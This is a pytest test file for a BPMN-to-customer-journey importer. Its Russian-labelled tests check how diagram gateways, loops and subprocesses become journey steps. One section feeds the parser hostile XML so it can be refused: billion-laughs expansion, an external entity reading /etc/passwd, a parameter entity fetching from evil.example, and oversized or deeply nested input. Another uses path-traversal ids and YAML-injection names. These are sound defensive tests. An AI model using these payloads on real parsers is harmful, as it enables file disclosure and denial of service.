"""A BPMN diagram becomes journeys: its gateways are conditions, its lanes roles, and what a journey cannot say is told."""

import re
from collections import Counter
from pathlib import Path

import pytest

from cjm.edit import Refused
from cjm.intake import ImportMemory, IntakePlan, documents_in, drafted, plan_of
from cjm.lint import judge
from cjm.load import load, load_folder
from cjm.model import Handbook
from cjm.scaffold import First, first_files
from cjm.tables import Rejected
from tests.intake.drawn import HEAD, inside, process
from tests.intake.refusals import as_told
from tests.intake.test_again import edit
from tests.intake.test_studio import TODAY, empty, run

__all__ = ["empty"]

EMPTY = first_files(First("Пример", "Пример", "Дежурный", "Первое"), "ru")
CLUB = (Path(__file__).parent / "club.bpmn").read_bytes()


def taken(raw: bytes, name: str = "a.bpmn") -> tuple[IntakePlan, Handbook]:
    (document,) = documents_in(name, raw)
    plan = plan_of(document, load(EMPTY))
    assert len(plan.fates) == len(document.lines)
    assert all(bool(one.where) == (one.end == "field") for one in plan.fates)
    made = drafted(EMPTY, plan, ImportMemory())
    handbook = load({**EMPTY, **{one.file: one.after for one in made.files}})
    assert handbook.problems == ()
    return plan, handbook


def ways(handbook: Handbook) -> list[str]:
    """Each way as «откуда -условие-> куда», a way back with «back», each outcome as «откуда = исход»."""
    told = []
    drawn = [one for one in handbook.journeys if one.id != "pervoe"]
    title = {point.id: point.title for one in drawn for point in one.touchpoints}
    for point in (point for one in drawn for point in one.touchpoints):
        for edge in point.next:
            said = edge.when + (" иначе" if edge.otherwise else "") + (" ?" if edge.is_open("when") else "")
            told.append(f"{point.title} -{said.strip()}{' back' if edge.back else ''}-> {title[edge.to]}")
        if point.outcome:
            told.append(f"{point.title} = {point.outcome}")
    return told


CASES = {
    "gateways vanish into conditions": (
        ("start s", "task a Звонок", "xor g Есть место?", "task b Запись", "task c Лист ожидания", "end e Записан", "end n Ждёт",
         "s > a", "a > g", "g > b да", "g > c *", "b > e", "c > n"),
        ["Звонок -Есть место? да-> Запись", "Звонок -иначе-> Лист ожидания", "Запись = Записан", "Лист ожидания = Ждёт"],
    ),
    "two gateways in a row": (
        ("task a А", "xor g Вид?", "xor h", "task b Б", "task c В", "task d Г", "a > g", "g > h детский", "g > d взрослый", "h > b есть", "h > c нет"),
        ["А -Вид? детский, есть-> Б", "А -Вид? детский, нет-> В", "А -Вид? взрослый-> Г", "Б = Конец пути", "В = Конец пути", "Г = Конец пути"],
    ),
    "a branch that ends has a touchpoint of its own": (
        ("task a А", "xor g", "task b Б", "end e Ушёл", "a > g", "g > b да", "g > e нет", "b > e"),
        ["А -да-> Б", "А -нет-> Ушёл", "Б --> Ушёл", "Ушёл = Ушёл"],
    ),
    "a loop is a way back": (
        ("start s", "task a А", "task b Б", "xor g Готово?", "end e Готов", "s > a", "a > b", "b > g", "g > a нет", "g > e да"),
        ["А --> Б", "Б -Готово? нет back-> А", "Б -Готово? да-> Готов", "Готов = Готов"],
    ),
    "what goes to itself is told, not written": (
        ("task a А", "xor g", "task b Б", "a > g", "g > a ещё", "g > b всё"), ["А -всё-> Б", "Б = Конец пути"],
    ),
    "ways at once are asked": (
        ("task a А", "and g", "task b Б", "task c В", "a > g", "g > b", "g > c"), ["А -?-> Б", "А -?-> В", "Б = Конец пути", "В = Конец пути"],
    ),
    "branches without a condition are asked": (
        ("task a А", "task b Б", "task c В", "a > b", "a > c"), ["А -?-> Б", "А -?-> В", "Б = Конец пути", "В = Конец пути"],
    ),
    "two ways to one place stay two": (
        ("task a А", "xor g", "xor h", "task b Б", "a > g", "g > h сразу", "g > h завтра", "h > b"),
        ["А -сразу-> Б", "А -завтра-> Б", "Б = Конец пути"],
    ),
    "what happens is a condition": (
        ("task a А", "event g", "catch m Ответил", "catch t Три дня", "task b Б", "task c В", "a > g", "g > m", "g > t", "m > b", "t > c"),
        ["А -Ответил-> Б", "А -Три дня-> В", "Б = Конец пути", "В = Конец пути"],
    ),
    "a question that is asked first stands": (
        ("start s", "xor g Был раньше?", "task b Б", "task c В", "s > g", "g > b да", "g > c нет"),
        ["Был раньше? -да-> Б", "Был раньше? -нет-> В", "Б = Конец пути", "В = Конец пути"],
    ),
    "gateways in a ring": (
        ("task a А", "xor g", "xor h", "task b Б", "a > g", "g > h", "h > g", "h > b"), ["А --> Б", "Б = Конец пути"],
    ),
    "nothing is led to what is not there": (("task a А", "task b Б", "a > b", "a > nobody", "nobody > a"), ["А --> Б", "Б = Конец пути"]),
    "a dead end leads not to what stands below": (("task a А", "task b Б", "task c В", "a > c"), ["А --> В", "В = Конец пути", "Б = Конец пути"]),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_ways(name: str) -> None:
    lines, wanted = CASES[name]
    _, handbook = taken(process(*lines))
    assert sorted(ways(handbook)) == sorted(wanted)
    assert [one for one in judge(handbook, today=TODAY).shown if one.severity == "error"] == []


def test_the_order_follows_the_ways_where_the_file_does_not() -> None:
    _, handbook = taken(process("task c В", "task b Б", "task a А", "start s", "s > a", "a > b", "b > c"))
    assert [one.title for one in handbook.journey["zapis"].touchpoints] == ["А", "Б", "В"]


def test_a_subprocess_is_a_stage_and_what_may_happen_in_it_leads_out() -> None:
    inner = inside("start i", "task x Примерка", "task y Оплата", "end o", "i > x", "x > y", "y > o")
    more = (
        f'<subProcess id="sub" name="Покупка">{inner}</subProcess>'.replace('id="f', 'id="inner')
        + '<boundaryEvent id="bd" attachedToRef="sub"><timerEventDefinition><timeDuration>PT2H30M</timeDuration></timerEventDefinition></boundaryEvent>'
    )
    _, handbook = taken(
        process(
            "task a А", "task b Б", "task c Напомнили", "a > sub", "sub > b", "bd > c", more=more, lanes="Кассир: sub a"
        )
    )
    journey = handbook.journey["zapis"]
    assert [stage.title for stage in journey.stages] == ["Этап 1", "Покупка", "Этап 3"]
    assert sorted(ways(handbook)) == [
        "А --> Примерка", "Б = Конец пути", "Напомнили = Конец пути", "Оплата --> Б", "Примерка -иначе-> Оплата",
        "Примерка -прошло время: 2 ч 30 мин-> Напомнили",
    ]  # fmt: skip
    assert [point.role for point in journey.touchpoints] == ["kassir", "kassir", "kassir", "", ""]


def test_the_club() -> None:
    """A file as a consultant gets it: two pools, lanes, a subprocess, messages, notes, a name of somebody."""
    plan, handbook = taken(CLUB, "пробное занятие.bpmn")
    (journey,) = [one for one in handbook.journeys if one.id != "pervoe"]
    assert (journey.title, journey.client) == ("Клуб", "Клиент")
    assert ways(handbook) == [
        "Ответить на заявку -Дозвонились? да-> Подобрать группу",
        "Ответить на заявку -Дозвонились? нет-> Написать в мессенджер",
        "Написать в мессенджер -Ответил-> Подобрать группу",
        "Написать в мессенджер -прошло время: 3 дн-> Не ответил",
        "Подобрать группу --> Встретить",
        "Не ответил = Не ответил",
        "Встретить --> Провести занятие",
        "Провести занятие -Понравилось? да-> Оформить абонемент",
        "Провести занятие -иначе-> Записать отзыв",
        "Оформить абонемент = Купил абонемент",
        "Записать отзыв = Ушёл с отзывом",
    ]
    assert [stage.title for stage in journey.stages] == ["Этап 1", "Пробное занятие", "Этап 3"]
    points = {point.title: point for point in journey.touchpoints}
    assert points["Ответить на заявку"].client == "Заявка с сайта"
    assert points["Встретить"].backstage == "Показать раздевалку [имя]"
    assert points["Оформить абонемент"].backstage == "Банк: Запрос оплаты"
    assert (points["Встретить"].role, points["Провести занятие"].role) == ("administrator", "instruktor")
    assert (points["Ответить на заявку"].contact, points["Написать в мессенджер"].contact) == ("person", "product")
    assert next(role for role in handbook.roles if role.title == "Банк").kind == "partner"
    assert [one for one in judge(handbook, today=TODAY).shown if one.severity == "error"] == []
    assert not any("Иванов" in str(one) for one in (*plan.fates, *plan.drafts))
    ends = Counter(one.end for one in plan.fates)
    assert ends == {"field": 39, "ask": 1, "not-understood": 2, "dropped": 3}
    told = {one.line.text: str(one.why) for one in plan.ended("not-understood")}
    assert any("Анкета" in text for text in told) and any("Characteristics" in text for text in told)


def test_a_long_description_is_told_and_stays_in_the_diagram() -> None:
    more = '<task id="b" name="Б"><documentation>' + "слово " * 5_000 + "</documentation></task>"
    plan, handbook = taken(process("task a А", "a > b", more=more))
    (told,) = plan.ended("not-understood")
    assert told.line.text.endswith("[…]") and "длинное описание" in str(told.why)
    assert not any(point.backstage for point in handbook.journey["zapis"].touchpoints)


def test_again(empty: Path) -> None:
    """A word changed in the diagram follows; what the author changed stays and is told."""
    path = empty / "клуб.bpmn"
    path.write_bytes(CLUB)
    run("import", str(path), "--root", str(empty), "--yes")
    assert "ничего не изменилось" in run("import", str(path), "--root", str(empty), "--yes")
    path.write_bytes(CLUB.replace("Подобрать группу".encode(), "Подобрать день".encode()))
    run("import", str(path), "--root", str(empty), "--yes")
    titles = [one.title for one in load_folder(empty).journey["klub"].touchpoints]
    assert "Подобрать день" in titles and "Подобрать группу" not in titles
    edit(empty, "touchpoints/klub.yml", "title: Встретить", "title: Встретить у входа")
    path.write_bytes(CLUB.replace("Записать отзыв".encode(), "Спросить".encode()))
    said = run("import", str(path), "--root", str(empty), "--yes")
    assert "journey:klub: «stages» вы меняли" in said
    assert "Встретить у входа" in [one.title for one in load_folder(empty).journey["klub"].touchpoints]


def test_a_dry_run_writes_nothing(empty: Path) -> None:
    path = empty / "клуб.xml"  # known by what is in it
    path.write_bytes(CLUB)
    before = {one: one.read_bytes() for one in empty.rglob("*") if one.is_file()}
    said = run("import", str(path), "--root", str(empty), "--dry-run")
    assert "схема процесса" in said and "touchpoints/klub.yml, этапов 3, точек касания 8, дорог 8" in said
    assert {one: one.read_bytes() for one in empty.rglob("*") if one.is_file()} == before


TASK = '<task id="a" name="{}"/>'
LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '&a{n - 1 or ''};&a{n - 1 or ''};'>" for n in range(1, 30)) + "]>"  # fmt: skip
ENTITY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def with_doctype(doctype: str, name: str) -> bytes:
    return (
        process("task a А")
        .replace(b"<definitions", doctype.encode() + b"<definitions")
        .replace("А".encode(), name.encode())
    )


REFUSED = {  # made when they are asked for: one is of 100 MB
    "a billion laughs": lambda: (with_doctype(LAUGHS, "&a29;"), "DOCTYPE"),
    "an external entity": lambda: (with_doctype(ENTITY, "&x;"), "DOCTYPE"),
    "an entity of parameters": lambda: (with_doctype('<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>', "А"), "DOCTYPE"),
    "an attribute of 100 MB": lambda: ((HEAD + "<process id='p'><task id='a' name='").encode() + b"x" * 100_000_000 + b"'/>", "50"),
    "a name of 1 MB": lambda: (process("task a " + "х" * 1_000_000), "8000"),
    "10,000 deep": lambda: ((HEAD + "<process id='p'>" + "<subProcess id='x'>" * 10_000).encode(), "250"),
    "a million nodes": lambda: ((HEAD + "<process id='p'>").encode() + b"<task id='a'/>" * 1_000_000, "больше 150000 элементов"),
    "ten thousand nodes": lambda: (process(*(f"task a{n} А" for n in range(10_000))), "5000"),
    "torn": lambda: (process("task a А")[:-20], "строка"),
    "no BPMN": lambda: (b"<?xml version='1.0'?><order/>", "не BPMN"),
    "another definitions": lambda: (b"<wsdl:definitions xmlns:wsdl='http://schemas.xmlsoap.org/wsdl/'/>", "не BPMN"),
    "no process": lambda: ((HEAD + "</definitions>").encode(), "ни одной"),
    "text": lambda: ("просто текст".encode(), "простой текст"),
    "letters that are none": lambda: (process("task a А").replace(b"UTF-8", b"utf-99"), "буквы"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name: str) -> None:
    raw, said = REFUSED[name]()
    with pytest.raises(Rejected) as told:
        documents_in("a.bpmn", raw)
    assert said in told.value.says.to("ru")
    as_told(f"BPMN: {name}", told.value.says.ru, told.value.says.en)


STRANGE = {
    "ids that are paths": process("task ../../x А", "task /etc/passwd Б", "../../x > /etc/passwd"),
    "names that are YAML or a template": process("task a key: [x] # {{ цена }} <имя> &amp; *", "task b - !!python/object", "a > b {{ x }}: | >"),
    "two of one id": process("task a А", "task a Б", "task c В", "a > c"),
    "a lane twice, and one in itself": process("task a А", lanes="Кассир: a; Повар: a lane0 lane1"),
    "an event that is attached to itself": process("task a А", more='<boundaryEvent id="b" attachedToRef="b"/>'),
    "a subprocess of its own id": process("task a А", more='<subProcess id="s"><subProcess id="s"><task id="x" name="Х"/></subProcess></subProcess>'),
    "flows without ends": process("task a А", more='<sequenceFlow id="x"/><sequenceFlow/>'),
    "a mesh of gateways": process(
        "task a А", *(f"xor g{n}" for n in range(40)), "task b Б", "a > g0", "g39 > b",
        *(f"g{n} > g{m} {n}-{m}" for n in range(40) for m in range(n + 1, 40)),
    ),
    "UTF-16": process("task a А").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "Cyrillic of Windows": process("task a А").decode().replace("UTF-8", "windows-1251").encode("cp1251"),
}  # fmt: skip


@pytest.mark.parametrize("name", STRANGE)
def test_strange(name: str) -> None:
    plan, handbook = taken(STRANGE[name])
    assert any(one.kind == "journey" for one in plan.drafts)
    assert all(one.source.file.startswith(("touchpoints/", "guideline/")) for one in handbook.journeys)


def test_a_mesh_is_told() -> None:
    plan, handbook = taken(STRANGE["a mesh of gateways"])
    assert "А -?-> Б" in ways(handbook) or "А --> Б" in ways(handbook)
    assert any("так много развилок" in str(one.why) for one in plan.fates)


def test_a_second_journey_of_the_same_name_is_another() -> None:
    (document,) = documents_in("a.bpmn", process("task a А", name="Первое"))
    plan = plan_of(document, load(EMPTY))
    assert [one.id for one in plan.drafts if one.kind == "journey"] == ["pervoe-2"]
    try:
        drafted(EMPTY, plan, ImportMemory())
    except Refused as refused:  # pragma: no cover
        pytest.fail(str(refused))


def test_what_may_happen_at_a_subprocess_leads_out_of_what_stands_in_it() -> None:
    """Some programs write such events into the subprocess: where nothing else stands there, none leads on to another's task."""
    more = """<subProcess id="s" name="Свёрнутый">
    <boundaryEvent id="m" attachedToRef="s" cancelActivity="false"><messageEventDefinition/></boundaryEvent>
    <boundaryEvent id="w" attachedToRef="s"><escalationEventDefinition/></boundaryEvent></subProcess>"""
    lines = ("task a А", "task b Б", "task c В", "task f Д", "a > s", "s > f", "m > b", "w > c")
    _, handbook = taken(process(*lines, more=more))
    told = {re.sub(r" -.*?-> ", " > ", one) for one in ways(handbook) if " = " not in one}
    assert told == {"А > Свёрнутый", "Свёрнутый > Д", "Свёрнутый > Б", "Свёрнутый > В"}
